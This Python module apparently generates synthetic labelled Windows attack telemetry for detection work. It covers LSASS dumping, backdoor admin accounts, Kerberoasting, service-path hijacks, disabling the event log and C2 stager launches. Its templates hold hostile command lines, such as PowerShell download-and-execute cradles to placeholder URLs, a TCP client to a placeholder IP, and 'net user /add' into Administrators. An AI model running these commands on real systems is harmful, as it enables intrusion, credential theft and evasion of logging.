"""Further forms of what intruders do on Windows: handles, accounts, tickets, system programs, launchers."""

from __future__ import annotations

from generator.families.windows.desk import Desk
from generator.families.windows.logon_events import account_changed, explicit_logon, member_added, security
from generator.scene import Label, Scene, attack, family
from generator.world import World

TRACE = "C:\\Windows\\SYSTEM32\\ntdll.dll+a5594|C:\\Windows\\System32\\KERNELBASE.dll+2943a|"
PARENTS = ("cmd.exe", "powershell.exe", "wscript.exe", "C:\\Windows\\explorer.exe", "WINWORD.EXE", "WmiPrvSE.exe", "rundll32.exe", "C:\\Windows\\Tasks\\@word@.exe", "C:\\Users\\Public\\@word@.exe", "services.exe")


def _started(world: World, label: Label, commands: tuple[tuple[str, str], ...], most: int = 2) -> Scene:
    desk = Desk(world)
    parent = desk.fill(world.pick(PARENTS))
    for image, command in world.some(commands, 1, world.pick([1, 1, most])):
        desk.process(label, desk.fill(image), desk.fill(command), parent, user=world.pick([None, None, "SYSTEM"]))
    return desk.scene


@family("windows/memory-of-lsass-opened", attack=True, weight=1.5)
def memory_of_lsass_opened(world: World) -> Scene:
    """Programs that nobody installed, or ones that have no business there, open lsass.exe to read its memory."""
    desk = Desk(world)
    source = desk.fill(world.pick(["C:\\Users\\@user@\\Desktop\\@word@.exe", "C:\\Windows\\Temp\\@word@.exe", "C:\\ProgramData\\@word@\\@word@.exe", "C:\\Intel\\@word@64.exe", "C:\\Windows\\Tasks\\procdump64.exe", "C:\\Windows\\System32\\rundll32.exe", "C:\\Users\\@user@\\AppData\\Local\\Temp\\nanodump.x64.exe", "C:\\Windows\\System32\\notepad.exe", "C:\\Windows\\SysWOW64\\WerFault.exe", "C:\\Users\\@user@\\Downloads\\PPLdump.exe", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "C:\\Python27\\python.exe", "C:\\Users\\Public\\Music\\x.exe", "\\\\@ip@\\ADMIN$\\@word@.exe"]))
    trace = TRACE + world.pick(["C:\\Windows\\SYSTEM32\\dbgcore.DLL+6ce5|C:\\Windows\\SYSTEM32\\dbghelp.dll+1c9f", "UNKNOWN(00007FF@hex@)", "C:\\Windows\\System32\\comsvcs.dll+26c1e", "UNKNOWN(0000022@hex@)|UNKNOWN(0000022@hex@)", "C:\\Windows\\System32\\KERNEL32.DLL+17034", source + "+74a1c"])
    for _ in range(world.pick([1, 1, 1, 2, 3])):
        desk.access(attack("Credential Theft", "T1003.001", severity="CRITICAL"), source, "lsass.exe", world.pick(["0x1010", "0x1410", "0x1438", "0x143A", "0x1FFFFF", "0x1F1FFF", "0x1F3FFF", "0x40", "0x1478"]), desk.fill(trace))
    return desk.scene


@family("windows/dumps-of-lsass-written", attack=True)
def dumps_of_lsass_written(world: World) -> Scene:
    """The memory image of lsass.exe, or what was copied of the hives, lies in a folder."""
    desk = Desk(world)
    program, file = world.pick([("Taskmgr.exe", "C:\\Users\\@user@\\AppData\\Local\\Temp\\«2\\|»lsass«| (2)».DMP"), ("rundll32.exe", "C:\\Windows\\Temp\\@word@.«dmp|bin|tmp.full»"), ("C:\\Tools\\procdump.exe", "C:\\Temp\\lsass.exe_2301@n@_1044.dmp"), ("cmd.exe", "C:\\PerfLogs\\«ntds.dit|SYSTEM.hiv|sam.save»"), ("esentutl.exe", "C:\\Users\\Public\\«SAM|ntds.dit|n.dit»"), ("ntdsutil.exe", "C:\\Temp\\ifm\\Active Directory\\ntds.dit"), ("C:\\Users\\@user@\\Downloads\\@word@.exe", "C:\\Users\\@user@\\Downloads\\debug_lsass.dmp"), ("wbem\\WmiPrvSE.exe", "C:\\Windows\\Temp\\@word@.mdmp"), ("reg.exe", "C:\\Users\\@user@\\«security|sam|system».«bak|hive|reg»")])
    desk.file_created(attack("Credential Theft", "T1003.001" if "lsass" in file or "mp" in file[-4:] else "T1003.002", severity="CRITICAL"), desk.fill(program), desk.fill(file), world.pick([None, "NT AUTHORITY\\SYSTEM"]))
    return desk.scene


@family("windows/backdoor-account", attack=True, weight=1.5)
def backdoor_account(world: World) -> Scene:
    """A new account goes straight into the administrators, and an odd program made it."""
    desk = Desk(world)
    made, label = world.pick(["helpdesk$", "support_388945a0", "sysadm", "WDAGUtility", "adm1n", "DefaultUser1", "svc_update", "guest1", "ftpuser", "test", "oldadmin", "asp.net", "IUSR_WEB", "user01", "HomeGroupUser$"]), attack("Persistence", "T1136.001", "T1098.007")
    by = world.pick(["SYSTEM", "SYSTEM", "sqlservice", "IIS APPPOOL", None, "www", "tomcat", "helpdesk_tmp"])
    command = world.pick([f"net user {made} P@ss{world.number(10, 9999)} /add", f"cmd.exe /c net user {made} {world.word()}1! /add && net localgroup administrators {made} /add", f"powershell -c \"New-LocalUser {made} -NoPassword; Add-LocalGroupMember Administrators {made}\"", f"net1 localgroup «Administrators|Administratoren|Administrateurs|\"Remote Desktop Users\"» {made} /add", f"wmic useraccount where name='{made}' set passwordexpires=false"])
    if world.chance(0.6):
        desk.process(label, "powershell.exe" if command.startswith("power") else "cmd.exe" if command.startswith("cmd") else "net.exe", desk.fill(command), desk.fill(world.pick(["w3wp.exe", "sqlservr.exe", "C:\\xampp\\apache\\bin\\httpd.exe", "C:\\Windows\\Temp\\@word@.exe", "WmiPrvSE.exe", "C:\\Program Files\\Java\\jre\\bin\\java.exe", "mshta.exe", "C:\\inetpub\\wwwroot\\@word@.exe"])), user=world.pick(["SYSTEM", None]))
    if world.chance(0.8):
        desk.add(account_changed(desk, 4720, made, by), attack("Windows Threat: User Account Created", "T1136.001", "T1078.003"))
        for code in world.some([4722, 4724, 4738], 0, 2):
            desk.add(account_changed(desk, code, made, by), label)
    desk.add(member_added(desk, 4732, world.pick(["Administrators", "Administratoren", "Remote Desktop Users", "Administradores", "Backup Operators"]), made, by), label)
    return desk.scene


@family("windows/kerberoasting-burst", attack=True, weight=1.2)
def kerberoasting_burst(world: World) -> Scene:
    """One person asks for weakly encrypted tickets of many services within seconds."""
    desk, label = Desk(world), attack("Kerberos or Directory Attack", "T1558.003")
    who, source, options = f"{desk.user}@{world.domain.upper()}", world.ip_private(), world.pick(["0x40810000", "0x40800000", "0x40810010", "0x50810000"])
    for service in world.some(["MSSQL", "http_intranet", "svcCitrix", "sa-veeam", "OracleSvc", "adm_scan", "srvJira", "nav_nst", "datev", "PRTGprobe", "svc-exchange", "ldapbind", "biztalk", "sp_farm", "tfsbuild", "hyperv_mig", "vpn_radius"], 3, 15):
        desk.add(security(4769, "A Kerberos service ticket was requested.", {"TargetUserName": who, "TargetDomainName": world.domain, "ServiceName": service, "ServiceSid": desk.sid, "TicketOptions": options, "TicketEncryptionType": world.pick(["0x17", "0x17", "0x17", "0x18"]), "IpAddress": f"::ffff:{source}", "IpPort": str(world.port()), "Status": "0x0", "TransmittedServices": "-"}), label)
    return desk.scene


@family("windows/preauth-missing", attack=True)
def preauth_missing(world: World) -> Scene:
    """Tickets asked for without pre-authentication, in the old encryption, for one account after another."""
    desk, label, source = Desk(world), attack("Kerberos or Directory Attack", "T1558.004"), world.ip_private()
    for _ in range(world.pick([1, 2, 4, 9])):
        desk.add(security(4768, "A Kerberos authentication ticket (TGT) was requested.", {"TargetUserName": world.user(), "TargetDomainName": desk.domain, "TargetSid": desk.sid, "ServiceName": "krbtgt", "TicketOptions": world.pick(["0x50800000", "0x40800010", "0x10"]), "Status": "0x0", "TicketEncryptionType": world.pick(["0x17", "0x17", "0x3"]), "PreAuthType": "0", "IpAddress": f"::ffff:{source}", "IpPort": str(world.port()), "CertIssuerName": ""}), label)
    return desk.scene


@family("windows/alternate-credentials-hopping", attack=True)
def alternate_credentials_hopping(world: World) -> Scene:
    """One process tries other people's credentials on one host after another."""
    desk, label = Desk(world), attack("Windows Threat: Explicit Credential Logon", "T1134", "T1021.002")
    process = desk.fill(world.pick(["C:\\Windows\\System32\\cmd.exe", "C:\\Users\\@user@\\AppData\\Local\\Temp\\@word@.exe", "C:\\Windows\\Temp\\PsExec64.exe", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "C:\\Windows\\System32\\rundll32.exe", "C:\\ProgramData\\@word@.exe", "C:\\Windows\\System32\\wbem\\WMIC.exe", "C:\\Windows\\System32\\net.exe"]))
    target = world.pick(["Administrator", "administrator", "svc_backup", "da_" + world.user(), world.user()])
    for _ in range(world.number(4, 18)):
        desk.add(explicit_logon(desk, target if world.chance(0.8) else world.user(), world.pick([world.workstation(), f"{world.host().split('.')[0]}.{world.domain}"]), process), label)
    return desk.scene


@family("windows/style-sheet-scripts", attack=True)
def style_sheet_scripts(world: World) -> Scene:
    """WMIC and msxsl run scripts that hide in style sheets."""
    return _started(world, attack("Defense Evasion", "T1220", "T1047"), (
        ("WMIC.exe", "wmic «os get|process list|cpu get name|computersystem get» /«format|FORMAT»:«\"@url@.xsl\"|@tmp@@word@.xsl|\"\\\\@ip@\\public\\@word@.xsl\"|\"https://pastebin.com/raw/@word@\"»"), ("C:\\Windows\\SysWOW64\\wbem\\WMIC.exe", "\"C:\\Windows\\SysWOW64\\wbem\\WMIC.exe\" process LIST /FORMAT:@word@"), ("C:\\Users\\Public\\msxsl.exe", "msxsl.exe «customers|@word@».xml «script|@word@».xsl"), ("@tmp@msxsl.exe", "@tmp@msxsl.exe @url@.xml @url@.xsl -o @word@"), ("WMIC.exe", "WMIC /node:@ip@ /user:@other@ /password:@pw@ process call create \"«cmd /c|powershell -w hidden -c» «\\\\@ip@\\c$\\Windows\\Temp\\@word@.bat|IEX(iwr @url@)»\""),
    ))  # fmt: skip


@family("windows/injector-tools-renamed", attack=True)
def injector_tools_renamed(world: World) -> Scene:
    """mavinject and its like put a foreign library into a running process."""
    return _started(world, attack("Process Injection", "T1055.001", "T1218.013"), (
        ("mavinject.exe", "mavinject«.exe|» @pid@ /INJECTRUNNING «@tmp@@word@.dll|C:\\PerfLogs\\@word@.dat|\\\\@ip@\\s\\@word@.dll»"), ("C:\\Windows\\SysWOW64\\mavinject.exe", "\"C:\\Windows\\SysWOW64\\mavinject.exe\" @pid@ /injectrunning \"@tmp@@word@.dll\""), ("mavinject.exe", "Mavinject64 /HMODULE=0x7ff8@hex@ @tmp@@word@.dll 1"), ("@tmp@@word@.exe", "@word@.exe @pid@ /INJECTRUNNING c:\\temp\\@word@.dll"), ("tttracer.exe", "tttracer.exe -dumpFull -attach @pid@ -out @tmp@@word@.run"), ("@tmp@inject64.exe", "inject64.exe -p @pid@ -d @tmp@@word@.dll --method «apc|thread|hook»"),
    ), 1)  # fmt: skip


@family("windows/connection-profile-abuse", attack=True)
def connection_profile_abuse(world: World) -> Scene:
    """cmstp installs a profile that runs commands, silently."""
    return _started(world, attack("Defense Evasion", "T1218.003", "T1548.002"), (
        ("cmstp.exe", "cmstp«.exe|» /«s|ni /s|au|s /ns» «@tmp@@word@.inf|\"@tmp@@word@.txt\"|C:\\Windows\\Tasks\\@word@.inf»"), ("C:\\Windows\\SysWOW64\\cmstp.exe", "C:\\Windows\\SysWOW64\\cmstp.exe /au \"@tmp@@word@.inf\""), ("cmd.exe", "cmd /c start /min cmstp /ni /s @tmp@corpvpn@n@.inf"), ("C:\\Windows\\System32\\dllhost.exe", "C:\\Windows\\system32\\DllHost.exe /Processid:{3E5FC7F9-9A51-4367-9063-A120244FBEC7}"),
    ), 1)  # fmt: skip


@family("windows/event-log-switched-off", attack=True)
def event_log_switched_off(world: World) -> Scene:
    """The MiniNt key and its sisters, which stop the event log from writing."""
    desk, label = Desk(world), attack("Defense Evasion", "T1562.002", "T1112")
    if world.chance(0.5):
        key, value = world.pick([("HKLM\\SYSTEM\\CurrentControlSet\\Control\\MiniNt\\(Default)", "(Empty)"), ("HKLM\\SYSTEM\\CurrentControlSet\\Services\\EventLog\\Start", "DWORD (0x00000004)"), ("HKLM\\SYSTEM\\CurrentControlSet\\Control\\WMI\\Autologger\\EventLog-Security\\Start", "DWORD (0x00000000)"), ("HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\WINEVT\\Channels\\Microsoft-Windows-«Sysmon|PowerShell|TaskScheduler|Windows Defender»/Operational\\Enabled", "DWORD (0x00000000)"), ("HKLM\\SYSTEM\\CurrentControlSet\\Services\\EventLog\\Security\\File", "C:\\Windows\\Temp\\@word@.evtx"), ("HKLM\\SYSTEM\\CurrentControlSet\\Services\\EventLog\\Security\\MaxSize", "DWORD (0x00000400)")])
        desk.registry_set(label, desk.fill(world.pick(["reg.exe", "powershell.exe", "@tmp@@word@.exe", "regedit.exe"])), desk.fill(key), desk.fill(value))
        return desk.scene
    return _started(world, label, (("reg.exe", "reg«.exe|» add «HKLM|\"HKEY_LOCAL_MACHINE»\\SYSTEM\\CurrentControlSet\\Control\\MiniNt«| /f|\" /f»"), ("powershell.exe", "powershell -c New-Item -Path 'HKLM:\\SYSTEM\\CurrentControlSet\\Control\\MiniNt' -Force"), ("sc.exe", "sc config eventlog start= disabled"), ("wevtutil.exe", "wevtutil sl «Security|System|Microsoft-Windows-Sysmon/Operational» /e:false"), ("auditpol.exe", "auditpol /set /category:* /success:disable /failure:disable"), ("cmd.exe", "cmd /c reg add HKLM\\SYSTEM\\CurrentControlSet\\Control\\MiniNt /f & shutdown /r /t 0")))


@family("windows/service-path-rewired", attack=True, weight=1.3)
def service_path_rewired(world: World) -> Scene:
    """A service that is there already is pointed at another program."""
    name = "«Fax|RemoteRegistry|UsoSvc|upnphost|SSDPSRV|AppReadiness|Spooler|SensorService|WSearch|msdtc»"
    return _started(world, attack("Privilege Escalation", "T1574.011", "T1543.003"), (
        ("sc.exe", "sc«.exe|» config " + name + " «binPath=|binpath=|BINPATH=» «\"cmd /c net localgroup administrators @user@ /add\"|\"@tmp@@word@.exe\"|\"C:\\Windows\\System32\\cmd.exe /c start @tmp@@word@.exe\"|\"powershell -nop -w hidden -enc ⟦iex(iwr @url@)⟧\"»«| start= auto»"), ("sc.exe", "sc \\\\@host@ config " + name + " binPath= \"C:\\Windows\\@word@.exe\" start= demand obj= LocalSystem"), ("sc.exe", "sc failure " + name + " command= \"@tmp@@word@.exe -s\" actions= run/1000 reset= 0"), ("powershell.exe", "powershell Set-ItemProperty HKLM:\\SYSTEM\\CurrentControlSet\\Services\\" + name + " ImagePath \"@tmp@@word@.exe\""), ("reg.exe", "reg add HKLM\\SYSTEM\\CurrentControlSet\\Services\\" + name + " /v ImagePath /t REG_EXPAND_SZ /d \"cmd /c @tmp@@word@.bat\" /f"), ("wmic.exe", "wmic service where name='" + name + "' call change PathName=\"@tmp@@word@.exe\""),
    ))  # fmt: skip


@family("windows/stager-launchers", attack=True, weight=1.5)
def stager_launchers(world: World) -> Scene:
    """One-line launchers of control frameworks."""
    return _started(world, attack("Suspicious Script", "T1059.001", "T1105", "T1027"), (
        ("powershell.exe", "powershell -noP -sta -w 1 -enc ⟦If($PSVersionTable.PSVersion.Major -ge 3){$r=[Ref].Assembly.GetType('System.Management.Automation.Utils')};$wc=New-Object Net.WebClient;$wc.Headers.Add('Cookie','session=@word@');IEX $wc.DownloadString('@url@')⟧"), ("powershell.exe", "powershell -Sta -Nop -Window Hidden -Command \"«iex|& (gcm i*x)» (New-Object Net.WebClient).DownloadString('@url@.ps1')\""), ("powershell.exe", "powershell -Sta -Nop -Window Hidden -EncodedCommand ⟦sv o (New-Object IO.MemoryStream);sv d (New-Object IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String('7Vp7@word@'),0));[Reflection.Assembly]::Load((gv o -v).ToArray()).EntryPoint.Invoke(0,@(,[string[]]@()))⟧"), ("MSBuild.exe", "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\msbuild.exe «GruntStager|@word@».xml"), ("InstallUtil.exe", "InstallUtil.exe /U @tmp@Grunt@word@.exe"), ("mshta.exe", "mshta @url@.hta"), ("wscript.exe", "wscript /b C:\\Users\\Public\\launcher.vbs"), ("cscript.exe", "cscript //E:jscript @tmp@@word@.txt"), ("regsvr32.exe", "regsvr32 /u /n /s /i:@url@.sct scrobj.dll"), ("rundll32.exe", "rundll32 @tmp@launcher.dll,«Control_RunDLL|StartW|DllRegisterServer»"), ("powershell.exe", "powershell.exe -nop -w hidden -c \"$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String('H4sIAAAA@hex@'));IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()\""), ("cmd.exe", "%COMSPEC% /b /c start /b /min powershell -nop -w hidden -encodedcommand ⟦$c=New-Object Net.Sockets.TCPClient('@pub@',443)⟧"),
    ), 1)  # fmt: skip


@family("windows/injected-threads-and-pipes", attack=True)
def injected_threads_and_pipes(world: World) -> Scene:
    """Named pipes of control frameworks and threads started in other programs by strangers."""
    desk = Desk(world)
    program = desk.fill(world.pick(["C:\\Users\\@user@\\AppData\\Local\\Temp\\@word@.exe", "rundll32.exe", "C:\\Users\\Public\\@word@.exe", "powershell.exe", "C:\\Windows\\SysWOW64\\rundll32.exe"]))
    for _ in range(world.pick([1, 1, 2])):
        if world.chance(0.5):
            desk.pipe(attack("Command and Control", "T1071.001", "T1570"), program, desk.fill("\\" + world.pick(["msagent_@n@", "MSSE-@pid@-server", "postex_@hex@", "status_@n@", "gruntsvc", "mojo.5688.8052.@pid@9183", "PSEXESVC-@me@-@pid@-stdin", "demoagent_@n@", "winsock_@n@", "wkssvc_@n@"])), world.chance(0.7))
        else:
            desk.sysmon_event(attack("Process Injection", "T1055"), 8, "CreateRemoteThread detected:", {"SourceProcessGuid": desk.guid(), "SourceProcessId": str(world.pid()), "SourceImage": program if ":" in program else "C:\\Windows\\System32\\" + program, "TargetImage": desk.fill("C:\\Windows\\«explorer.exe|System32\\«svchost|notepad|spoolsv|RuntimeBroker|lsass|dllhost».exe»"), "NewThreadId": str(world.number(900, 9000)), "StartAddress": f"0x{world.hex(16).upper()}", "StartModule": "-", "StartFunction": world.pick(["-", "-", "LoadLibraryA"])})
    return desk.scene
